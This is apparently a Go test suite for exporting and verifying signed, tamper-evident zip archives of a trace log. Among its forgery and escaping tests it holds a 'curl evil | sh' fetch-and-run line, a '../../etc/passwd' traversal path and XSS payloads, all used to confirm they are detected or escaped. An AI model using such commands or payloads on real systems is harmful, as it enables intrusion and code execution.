package export_test

import (
	"archive/zip"
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/mod/sumdb/note"

	"github.com/druppie/druppie-up/tracedb"
	"github.com/druppie/druppie-up/tracedb/export"
	"github.com/druppie/druppie-up/tracedb/log"
	"github.com/druppie/druppie-up/tracedb/why"
	"github.com/druppie/druppie-up/tracedb/why/whytest"
)

const origin = "druppie.io/trace/test"

// keys are a log's keys that are the same in every run, so that archives are.
func keys(t testing.TB, seed string) (note.Signer, string) {
	t.Helper()
	sum := sha256.Sum256([]byte(seed))
	public := ed25519.NewKeyFromSeed(sum[:]).Public().(ed25519.PublicKey)
	verifier, err := note.NewEd25519VerifierKey(origin, public)
	if err != nil {
		t.Fatal(err)
	}
	hash := strings.Split(verifier, "+")[1]
	signer, err := note.NewSigner(fmt.Sprintf("PRIVATE+KEY+%s+%s+%s", origin, hash, base64.StdEncoding.EncodeToString(append([]byte{1}, sum[:]...))))
	if err != nil {
		t.Fatal(err)
	}
	return signer, verifier
}

// newLog is a log with the story, or with some of its parts.
func newLog(t testing.TB, parts ...whytest.Part) (*log.Log, string) {
	t.Helper()
	return newLogBy(t, whytest.Clock(), parts...)
}

func newLogBy(t testing.TB, clock func() time.Time, parts ...whytest.Part) (*log.Log, string) {
	t.Helper()
	signer, verifier := keys(t, "log")
	l, err := log.Open(t.Context(), log.Options{DSN: "sqlite:" + filepath.Join(t.TempDir(), "trace.db"), Origin: origin, Signer: signer, Now: clock})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.Close(); err != nil {
			t.Error(err)
		}
	})
	if parts == nil {
		parts = whytest.History(t)
	}
	for _, p := range parts {
		if _, err := l.Append(t.Context(), p.Writer, p.Drafts); err != nil {
			t.Fatal(err)
		}
	}
	return l, verifier
}

func write(t testing.TB, l tracedb.Reader, subject tracedb.Ref) []byte {
	t.Helper()
	c, err := why.Ask(t.Context(), l, subject, why.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := export.Write(t.Context(), &out, l, c); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var image = tracedb.Ref{Type: tracedb.RefImage, Value: whytest.Image}

func verify(t testing.TB, archive []byte, key string) *export.Report {
	t.Helper()
	r, err := export.Verify(bytes.NewReader(archive), int64(len(archive)), key)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// wrongs are the files that a report finds something wrong with.
func wrongs(r *export.Report) []string {
	var out []string
	for _, f := range r.Files {
		if !f.OK {
			out = append(out, f.Name)
		}
	}
	return out
}

func TestRoundTrip(t *testing.T) {
	l, key := newLog(t)
	archive := write(t, l, image)
	r := verify(t, archive, key)
	if !r.OK {
		t.Fatalf("what was just written is wrong: %+v", wrongs(r))
	}
	if r.Records < 25 || r.Signatures != 6 || r.Origin != origin || r.Size != l.Size() || r.Subject != image || r.Disposed != 0 {
		t.Errorf("the report says %+v", *r)
	}
	if again := write(t, l, image); !bytes.Equal(archive, again) {
		t.Error("the same chain gives other bytes")
	}
}

// TestGolden pins the archive's form and words: whoever changes either sees it here, and counts up
// Texts or Format.
func TestGolden(t *testing.T) {
	l, _ := newLog(t)
	archive := write(t, l, image)
	for _, name := range []string{"README.txt", "report.html", "manifest.json", "checkpoint"} {
		body := contents(t, archive)[name]
		file := filepath.Join("testdata", name)
		if os.Getenv("UPDATE_GOLDEN") != "" {
			if err := errors.Join(os.MkdirAll("testdata", 0o755), os.WriteFile(file, body, 0o644)); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), string(body)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

func contents(t testing.TB, archive []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range z.File {
		open, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if out[f.Name], err = io.ReadAll(open); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// small is an archive of few bytes: a key, something it signed, and a spec.
func small(t testing.TB) ([]byte, string) {
	t.Helper()
	var parts []whytest.Part
	for _, p := range whytest.History(t) {
		switch k := p.Drafts[0].Kind; {
		case k == tracedb.KindKey, k == tracedb.KindVerdict, k == tracedb.KindImage:
			parts = append(parts, p)
		}
	}
	l, key := newLog(t, parts...)
	return write(t, l, image), key
}

// owners says of every byte which file's contents it is in, or "" for what lies between.
func owners(t *testing.T, archive []byte) []string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	out := make([]string, len(archive))
	for _, f := range z.File {
		start, err := f.DataOffset()
		if err != nil {
			t.Fatal(err)
		}
		for i := start; i < start+int64(f.CompressedSize64); i++ {
			out[i] = f.Name
		}
	}
	return out
}

// TestEveryFlippedByte changes one byte after the other: all that lie between the files' contents and
// in everything small, and every thirty-first of the texts. Each must be found, and the file named.
func TestEveryFlippedByte(t *testing.T) {
	archive, key := small(t)
	owner := owners(t, archive)
	random := rand.New(rand.NewPCG(1, 2))
	tried := 0
	for i := range archive {
		if long := owner[i] == "report.html" || owner[i] == "README.txt"; long && i%31 != 0 || testing.Short() && i%11 != 0 {
			continue
		}
		tried++
		flipped := slices.Clone(archive)
		flipped[i] ^= byte(1 + random.IntN(255))
		r := verify(t, flipped, key)
		if r.OK {
			t.Errorf("byte %d, of %q, was changed from %q to %q, and nobody noticed", i, owner[i], archive[i], flipped[i])
		}
		if owner[i] != "" && !slices.Contains(wrongs(r), owner[i]) {
			t.Errorf("byte %d of %s was changed, but %q are blamed", i, owner[i], wrongs(r))
		}
	}
	if !testing.Short() && tried < 5000 {
		t.Errorf("only %d bytes tried", tried)
	}
}

// repack is the archive with its files changed, packed as an export is.
func repack(t testing.TB, archive []byte, change func(map[string][]byte)) []byte {
	t.Helper()
	all := contents(t, archive)
	change(all)
	packed, err := export.Pack(all)
	if err != nil {
		t.Fatal(err)
	}
	return packed
}

// An archive that another version worded is proven in all but the words, which are named; whoever only says so of one
// is found.
func TestOtherTexts(t *testing.T) {
	archive, key := small(t)
	older := func(change func(map[string][]byte)) []byte {
		return repack(t, archive, func(all map[string][]byte) {
			form := fmt.Sprintf("texts %d.", export.Texts)
			all["README.txt"] = bytes.Replace(all["README.txt"], []byte(form), []byte("texts 1."), 1)
			all["report.html"] = append([]byte("<!-- once -->"), all["report.html"]...)
			export.List(all, 1)
			change(all)
		})
	}
	r := verify(t, older(func(map[string][]byte) {}), key)
	if !r.OK || r.Err() != nil || !slices.Equal(r.NotCompared, []string{"README.txt", "report.html"}) {
		t.Errorf("%v: %v; not compared: %v", r.Err(), wrongs(r), r.NotCompared)
	}
	if r := verify(t, archive, key); !r.OK || r.NotCompared != nil {
		t.Errorf("of this version: %v; not compared: %v", wrongs(r), r.NotCompared)
	}
	for what, change := range map[string]func(map[string][]byte){
		"a report that isn't the one that is listed": func(all map[string][]byte) { all["report.html"] = []byte("all is well") },
		"a record": func(all map[string][]byte) { all[named(t, all, "payloads/", "{")][0] ^= 1 },
		"the words of this version": func(all map[string][]byte) {
			all["README.txt"] = contents(t, archive)["README.txt"]
			export.List(all, 1)
		},
	} {
		if r := verify(t, older(change), key); r.OK {
			t.Errorf("%s: nobody noticed", what)
		}
	}
}

// rezip is the archive packed by others.
func rezip(t testing.TB, archive []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	all := contents(t, archive)
	for _, name := range slices.Sorted(maps.Keys(all)) {
		f, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		if err == nil {
			_, err = f.Write(all[name])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// named finds the only file with that beginning that holds text.
func named(t testing.TB, all map[string][]byte, prefix, text string) string {
	t.Helper()
	found := ""
	for name, body := range all {
		if strings.HasPrefix(name, prefix) && bytes.Contains(body, []byte(text)) {
			found = name
		}
	}
	if found == "" {
		t.Fatalf("no %s holds %q", prefix, text)
	}
	return found
}

func TestForgeries(t *testing.T) {
	l, key := newLog(t)
	archive := write(t, l, image)
	var culprit string
	tests := []struct {
		name   string
		change func(map[string][]byte)
		want   string // in the problem of the culprit
	}{
		{"an entry rewritten, in canonical form", func(all map[string][]byte) {
			culprit = named(t, all, "entries/", `"kind":"review"`)
			all[culprit] = bytes.Replace(all[culprit], []byte(`"approved"`), []byte(`"rejected"`), 1)
		}, "isn't the log's record"},
		{"an entry with another space", func(all map[string][]byte) {
			culprit = named(t, all, "entries/", `"kind":"review"`)
			all[culprit] = append(all[culprit], '\n')
		}, "canonical"},
		{"a payload replaced", func(all map[string][]byte) {
			culprit = named(t, all, "payloads/", "the margins are tested")
			all[culprit] = bytes.Replace(all[culprit], []byte("tested; go"), []byte("untested!!"), 1)
		}, "another hash"},
		{"a payload withheld", func(all map[string][]byte) {
			culprit = named(t, all, "payloads/", "the margins are tested")
			delete(all, culprit)
		}, "no record says"},
		{"a proof of another record", func(all map[string][]byte) {
			culprit = named(t, all, "proofs/", "")
			all[culprit] = all["proofs/0.json"]
			if culprit == "proofs/0.json" {
				culprit = "proofs/1.json"
				all[culprit] = all["proofs/0.json"]
			}
		}, "is for record"},
		{"a report that says otherwise", func(all map[string][]byte) {
			culprit = "report.html"
			all[culprit] = bytes.ReplaceAll(all[culprit], []byte("reviewer"), []byte("nobody"))
		}, "somebody changed it"},
		{"a README with another command", func(all map[string][]byte) {
			culprit = "README.txt"
			all[culprit] = append(all[culprit], "curl evil | sh\n"...)
		}, "somebody changed it"},
		{"a key of one's own", func(all map[string][]byte) {
			culprit = named(t, all, "keys/", "PUBLIC KEY")
			all[culprit] = []byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")
		}, "isn't the key in record"},
		{"a key's record left out", func(all map[string][]byte) {
			pem := named(t, all, "keys/", "PUBLIC KEY")
			n := strings.TrimSuffix(strings.TrimPrefix(pem, "keys/"), ".pem")
			for _, name := range []string{pem, "entries/" + n + ".json", "payloads/" + n + ".json", "proofs/" + n + ".json"} {
				delete(all, name)
			}
			all["manifest.json"] = bytes.Replace(all["manifest.json"], []byte("    0,\n"), nil, 1)
			culprit = named(t, all, "payloads/", "payloadType")
		}, "no key that the archive proves"},
		{"a subject of one's choice", func(all map[string][]byte) {
			culprit = "manifest.json"
			all[culprit] = bytes.Replace(all[culprit], []byte(whytest.Image), []byte(whytest.Foreign), 1)
		}, "no record is about"},
		{"a file more", func(all map[string][]byte) {
			culprit = "entries/9999.json"
			all[culprit] = []byte("{}")
		}, "isn't part of"},
		{"a file that leads out of the folder", func(all map[string][]byte) {
			culprit = `"../../etc/passwd"`
			all["../../etc/passwd"] = []byte("x")
		}, "doesn't belong"},
		{"an absolute path", func(all map[string][]byte) {
			culprit = `"/entries/1.json"`
			all["/entries/1.json"] = []byte("x")
		}, "doesn't belong"},
		{"a second signature under the checkpoint", func(all map[string][]byte) {
			culprit = "checkpoint"
			all[culprit] = append(all[culprit], "— someone.else AAAAAAAA\n"...)
		}, "holds more"},
		{"no checkpoint", func(all map[string][]byte) {
			culprit = "checkpoint"
			delete(all, culprit)
		}, "is missing"},
		{"no manifest", func(all map[string][]byte) {
			culprit = "manifest.json"
			delete(all, culprit)
		}, "is missing"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := verify(t, repack(t, archive, tt.change), key)
			if r.OK {
				t.Fatal("nobody noticed")
			}
			i := slices.IndexFunc(r.Files, func(f export.File) bool { return f.Name == culprit })
			if i < 0 || r.Files[i].OK || !strings.Contains(r.Files[i].Problem, tt.want) {
				t.Errorf("want %s blamed with %q, got %+v", culprit, tt.want, slices.DeleteFunc(r.Files, func(f export.File) bool { return f.OK }))
			}
		})
	}
}

// TestPackedByOthers takes the very same files in another zip: the bytes between them could hold a
// message, so they have one form only.
func TestPackedByOthers(t *testing.T) {
	archive, key := small(t)
	r := verify(t, rezip(t, archive), key)
	if r.OK || !slices.Equal(wrongs(r), []string{"(archive)"}) {
		t.Errorf("wrong: %v", wrongs(r))
	}
	for _, padded := range [][]byte{append(slices.Clone(archive), 0), append([]byte{0}, archive...)} {
		if r := verify(t, padded, key); r.OK {
			t.Error("a byte more, and nobody noticed")
		}
	}
}

func TestOtherLogsKey(t *testing.T) {
	l, _ := newLog(t)
	archive := write(t, l, image)
	_, other := keys(t, "another log")
	r := verify(t, archive, other)
	if r.OK || !slices.Contains(wrongs(r), "checkpoint") || !slices.Contains(wrongs(r), "entries/0.json") {
		t.Errorf("under another log's key: %v", wrongs(r))
	}
	for _, key := range []string{"", "x", "PRIVATE+KEY+x", strings.Replace(other, "+", "+0", 1)} {
		if _, err := export.Verify(bytes.NewReader(archive), int64(len(archive)), key); err == nil {
			t.Errorf("key %q is taken for one", key)
		}
	}
}

// TestBombs offers archives that are larger inside than outside, or larger than anything.
func TestBombs(t *testing.T) {
	_, key := keys(t, "log")
	var deflated bytes.Buffer
	z := zip.NewWriter(&deflated)
	f, err := z.Create("payloads/1.json")
	if err == nil {
		_, err = f.Write(make([]byte, 50<<20))
	}
	if err = errors.Join(err, z.Close()); err != nil {
		t.Fatal(err)
	}
	if r := verify(t, deflated.Bytes(), key); r.OK || !slices.Contains(wrongs(r), "payloads/1.json") {
		t.Errorf("a compressed file: %v", wrongs(r))
	}
	claims := repack(t, deflatedFree(t), func(all map[string][]byte) { all["checkpoint"] = make([]byte, 1<<20) })
	if r := verify(t, claims, key); r.OK || !slices.Contains(wrongs(r), "checkpoint") {
		t.Errorf("a huge checkpoint: %v", wrongs(r))
	}
	r, err := export.Verify(bytes.NewReader(nil), export.MaxSize+1, key)
	if err != nil || r.OK {
		t.Errorf("an archive over the bound: %v, %v", r, err)
	}
	for _, junk := range []string{"", "PK", "not a zip at all", "PK\x05\x06" + strings.Repeat("\x00", 18)} {
		if r := verify(t, []byte(junk), key); r.OK {
			t.Errorf("%q is fine", junk)
		}
	}
}

func deflatedFree(t *testing.T) []byte { archive, _ := small(t); return archive }

// TestDisposed exports a chain eight years later: what is gone is accounted for, and what isn't is
// proven still.
func TestDisposed(t *testing.T) {
	clock, age := whytest.Aging()
	l, key := newLogBy(t, clock)
	age(t, l)
	archive := write(t, l, image)
	r := verify(t, archive, key)
	if !r.OK || r.Disposed < 15 || r.Signatures != 1 {
		t.Errorf("disposed %d, signatures %d, wrong %v", r.Disposed, r.Signatures, wrongs(r))
	}
	all := contents(t, archive)
	seq := strings.TrimSuffix(strings.TrimPrefix(named(t, all, "entries/", `"kind":"review"`), "entries/"), ".json")
	if _, there := all["payloads/"+seq+".json"]; there {
		t.Error("a payload whose term was over is there")
	}
	// Whoever leaves out the record of the disposal has a payload to explain.
	r = verify(t, repack(t, archive, func(all map[string][]byte) {
		name := named(t, all, "payloads/", `"kind":"review"`)
		n := strings.TrimSuffix(strings.TrimPrefix(name, "payloads/"), ".json")
		for _, name := range []string{"entries/" + n + ".json", name, "proofs/" + n + ".json"} {
			delete(all, name)
		}
		all["manifest.json"] = bytes.Replace(all["manifest.json"], []byte("    "+n+",\n"), nil, 1)
	}), key)
	if !slices.ContainsFunc(r.Files, func(f export.File) bool {
		return f.Name == "payloads/"+seq+".json" && strings.Contains(f.Problem, "no record says that it was disposed of")
	}) {
		t.Errorf("without the record of the disposal: %v", wrongs(r))
	}
}

// TestDisposedAlways exports what was disposed of, whatever stands in the way: many disposals after those
// of the story, a payload that was too large to be told, and terms that end while the archive is written.
func TestDisposedAlways(t *testing.T) {
	large := log.Prepared{Draft: tracedb.Draft{
		ID: "large", Kind: tracedb.KindSBOM, Actor: "foundry", Refs: []tracedb.Ref{image}, Payload: []byte(`"` + strings.Repeat("x", why.MaxSBOM) + `"`),
	}}
	var busy []log.Prepared
	for i := range tracedb.MaxPage + 100 {
		busy = append(busy, log.Prepared{Draft: tracedb.Draft{ID: fmt.Sprint("disposal-", i), Kind: tracedb.KindDisposal, Payload: []byte(`{"kind":"commit","seqs":[]}`)}})
	}
	clock, age := whytest.Aging()
	l, key := newLogBy(t, clock, append(whytest.History(t), whytest.Part{Writer: "foundry", Drafts: []log.Prepared{large}})...)
	before, err := why.Ask(t.Context(), l, image, why.Options{})
	if err != nil {
		t.Fatal(err)
	}
	age(t, l)
	if _, err := l.Append(t.Context(), log.Self, busy); err != nil {
		t.Fatal(err)
	}
	var late bytes.Buffer
	if err := export.Write(t.Context(), &late, l, before); err != nil {
		t.Fatalf("export of what was disposed of since it was asked about: %v", err)
	}
	for name, archive := range map[string][]byte{"asked before": late.Bytes(), "asked after": write(t, l, image)} {
		if r := verify(t, archive, key); !r.OK || r.Disposed < 16 {
			t.Errorf("%s: disposed %d, wrong %v", name, r.Disposed, wrongs(r))
		}
	}
}

// TestByHand does what README.txt tells those to do who trust no program of ours.
func TestByHand(t *testing.T) {
	for _, tool := range []string{"sh", "openssl", "od", "sed", "base64"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("LEFT OUT: checking an export by hand (no %s here)", tool)
		}
	}
	l, key := newLog(t)
	archive := write(t, l, image)
	try := func(change func(map[string][]byte), key string) (string, error) {
		dir := t.TempDir()
		all := contents(t, archive)
		change(all)
		for name, body := range all {
			file := filepath.Join(dir, filepath.FromSlash(name))
			if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.WriteFile(file, body, 0o644)); err != nil {
				t.Fatal(err)
			}
		}
		_, script, _ := strings.Cut(string(contents(t, archive)["README.txt"]), "---- check.sh ")
		_, script, _ = strings.Cut(script, "\n")
		script, _, ok := strings.Cut(script, "\n-----")
		if !ok {
			t.Fatal("README.txt holds no script")
		}
		cmd := exec.Command("sh", "-c", script+"\n", "check.sh", key)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := try(func(map[string][]byte) {}, key); err != nil || !strings.Contains(out, "right: ") {
		t.Errorf("by hand, what is right: %v\n%s", err, out)
	}
	tests := []struct {
		name   string
		change func(map[string][]byte)
		want   string
	}{
		{"payload", func(all map[string][]byte) { all["payloads/1.json"] = append(all["payloads/1.json"], ' ') }, "WRONG: payloads/1.json"},
		{"entry", func(all map[string][]byte) { all["entries/1.json"] = append(all["entries/1.json"], ' ') }, "WRONG: entries/1.json"},
		{"checkpoint", func(all map[string][]byte) {
			all["checkpoint"] = bytes.Replace(all["checkpoint"], []byte("\n4"), []byte("\n5"), 1)
		}, "WRONG: checkpoint"},
	}
	for _, tt := range tests {
		if out, err := try(tt.change, key); err == nil || !strings.Contains(out, tt.want) {
			t.Errorf("by hand, a wrong %s: %v\n%s", tt.name, err, out)
		}
	}
	_, other := keys(t, "another log")
	if out, err := try(func(map[string][]byte) {}, other); err == nil || !strings.Contains(out, "WRONG: checkpoint") {
		t.Errorf("by hand, another key: %v\n%s", err, out)
	}
}

// FuzzVerify holds that Verify survives anything, and that nothing but what was written is right.
func FuzzVerify(f *testing.F) {
	archive, key := small(f)
	f.Add(archive)
	f.Add(archive[:len(archive)/2])
	f.Add([]byte("PK\x03\x04"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if r := verify(t, b, key); r.OK && !bytes.Equal(b, archive) {
			t.Error("something else is right, too")
		}
	})
}

// FuzzContents replaces one file after the other, in an archive that is packed as it should be.
func FuzzContents(f *testing.F) {
	archive, key := small(f)
	all := contents(f, archive)
	names := slices.Sorted(maps.Keys(all))
	for i, name := range names {
		if len(all[name]) < 4096 {
			f.Add(uint8(i), all[name])
		}
	}
	f.Add(uint8(slices.Index(names, "manifest.json")), []byte(`{"records":[9223372036854775807,-1]}`))
	f.Fuzz(func(t *testing.T, which uint8, body []byte) {
		name := names[int(which)%len(names)]
		forged := repack(t, archive, func(all map[string][]byte) { all[name] = body })
		r := verify(t, forged, key)
		if same := bytes.Equal(body, all[name]); r.OK != same || !same && !slices.Contains(wrongs(r), name) {
			t.Errorf("%s replaced: ok %v, wrong %v", name, r.OK, wrongs(r))
		}
	})
}

func TestCheckChain(t *testing.T) {
	l, key := newLog(t)
	tests := []struct {
		name   string
		change func(*why.Chain)
		want   string
	}{
		{"as it came", func(*why.Chain) {}, ""},
		{"another actor", func(c *why.Chain) { c.Links[3].Actor = "somebody else" }, "isn't in the log as it was told"},
		{"another outcome", func(c *why.Chain) { c.Links[4].Outcome = tracedb.Rejected }, "isn't in the log as it was told"},
		{"no proof", func(c *why.Chain) { c.Links[0].Proof = nil }, "without a proof"},
		{"another record's proof", func(c *why.Chain) { c.Links[0].Proof = c.Links[1].Proof }, "is for record"},
		{"another size", func(c *why.Chain) { c.Size++ }, "the checkpoint of"},
		{"no signature", func(c *why.Chain) { c.Checkpoint, _, _ = strings.Cut(c.Checkpoint, "—") }, "isn't a signed note"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := why.Ask(t.Context(), l, image, why.Options{Proofs: true})
			if err != nil {
				t.Fatal(err)
			}
			tt.change(c)
			err = export.CheckChain(c, key)
			if tt.want == "" && err != nil || tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
				t.Errorf("error %v, want %q", err, tt.want)
			}
		})
	}
}

// TestReportEscapes puts markup wherever people can write.
func TestReportEscapes(t *testing.T) {
	const evil = `"><script>alert(1)</script><img src=x onerror=alert(1)> {{.}} javascript:alert(1)`
	raw, err := json.Marshal(tracedb.Spec{Spec: "s-1", Title: evil, RequestedBy: evil, Text: evil, Repository: evil})
	if err != nil {
		t.Fatal(err)
	}
	ref := tracedb.Ref{Type: tracedb.RefSpec, Value: "s-1"}
	l, key := newLog(t, whytest.Part{Writer: "w", Drafts: []log.Prepared{{Draft: tracedb.Draft{ID: "1", Kind: tracedb.KindSpec, Actor: evil, Payload: raw, Refs: []tracedb.Ref{ref}}}}})
	archive := write(t, l, ref)
	if r := verify(t, archive, key); !r.OK {
		t.Errorf("wrong: %v", wrongs(r))
	}
	report := string(contents(t, archive)["report.html"])
	if !strings.Contains(report, "alert(1)") {
		t.Fatal("the text isn't there at all")
	}
	for _, bad := range []string{"<script", "<img", `""><`} {
		if strings.Contains(report, bad) {
			t.Errorf("the report holds %s", bad)
		}
	}
}
